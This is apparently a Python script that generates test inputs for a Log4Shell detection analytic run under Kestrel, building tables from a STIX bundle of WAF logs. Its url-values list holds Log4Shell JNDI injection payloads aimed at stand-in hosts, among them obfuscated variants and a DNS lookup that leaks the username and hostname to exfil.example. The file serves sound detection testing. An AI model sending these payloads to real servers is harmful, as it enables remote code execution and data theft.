"""Writes the input tables of the golden cases (run inside an image with pandas, the repository
mounted at /w/repo and /work/shared at /w/shared: python3 /w/repo/analytics/log4shell/tests/make_inputs.py).

stix-artifacts and waf-network-traffic come from the real bundle
../shared/kestrel-testdata/log4shell_bundle.json, shaped the way Kestrel hands entities to an
analytic (reference §7: `id`, `type`, flattened attributes, extensions under `x_`)."""
import base64
import json
import os
import sys
import uuid

import pandas as pd

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "../../../scripts/testdata"))
from kestrel_shape import write_empty_variable  # noqa: E402
BUNDLE = os.path.join(HERE, "../../../../shared/kestrel-testdata/log4shell_bundle.json")
NS = uuid.UUID("6ba7b811-9dad-11d1-80b4-00c04fd430c8")


def write(case, df):
    d = os.path.join(HERE, case, "input")
    os.makedirs(d, exist_ok=True)
    df.to_parquet(os.path.join(d, "0.parquet.gz"), index=False)


def observations():
    with open(BUNDLE) as f:
        bundle = json.load(f)
    for od in bundle["objects"]:
        if od["type"] == "observed-data":
            yield od["id"], od["objects"]


def artifacts():
    rows = []
    for od_id, objs in observations():
        for key, o in objs.items():
            if o["type"] == "artifact":
                rows.append({"id": "artifact--" + str(uuid.uuid5(NS, od_id + "/" + key)),
                             "type": "artifact", "payload_bin": o["payload_bin"],
                             "mime_type": o.get("mime_type")})
    return pd.DataFrame(rows)


def waf_traffic():
    """The AWS WAF records inside the artifacts as network-traffic with http-request-ext."""
    rows = []
    for od_id, objs in observations():
        for key, o in objs.items():
            if o["type"] != "artifact":
                continue
            text = base64.b64decode(o["payload_bin"]).decode()
            if not text.startswith("{"):
                continue
            req = json.loads(text)["httpRequest"]
            uri = req["uri"] + ("?" + req["args"] if req["args"] else "")
            row = {"id": "network-traffic--" + str(uuid.uuid5(NS, od_id + "/waf")),
                   "type": "network-traffic", "src_ref.value": req["clientIp"],
                   "dst_port": 80, "protocols": json.dumps(["tcp", "http"]),
                   "x_request_method": req["httpMethod"], "x_request_value": uri,
                   "x_request_version": req["httpVersion"].lower()}
            for h in req["headers"]:
                row["x_request_header.'%s'" % h["name"]] = h["value"]
            rows.append(row)
    df = pd.DataFrame(rows)
    return df


def url_values():
    values = [
        "http://10.0.0.5/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%3A1389%2Fa%7D",
        "http://10.0.0.5/${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/obj}",
        "http://10.0.0.5/x?u=${${env:NOPE:-j}ndi${date:':'}${lower:L}dap${upper::}//[2001:db8::1]:636/o}",
        "http://10.0.0.5/${jndi:dns://${env:USER}.${hostName}.exfil.example}",
        "http://10.0.0.5/index.html",
        None,
        "http://10.0.0.5/$${jndi:ldap://escaped.example/a}",
        "http://10.0.0.5/${jndi:ldap://unclosed.example/a",
    ]
    return pd.DataFrame({"id": ["url--%d" % i for i in range(len(values))],
                         "type": ["url"] * len(values), "value": values})


if __name__ == "__main__":
    write("stix-artifacts", artifacts())
    write("waf-network-traffic", waf_traffic())
    write("url-values", url_values())
    # an empty variable, as Kestrel sends it: 0 rows and 0 columns
    os.makedirs(os.path.join(HERE, "empty-input", "input"), exist_ok=True)
    write_empty_variable(os.path.join(HERE, "empty-input", "input", "0.parquet.gz"))
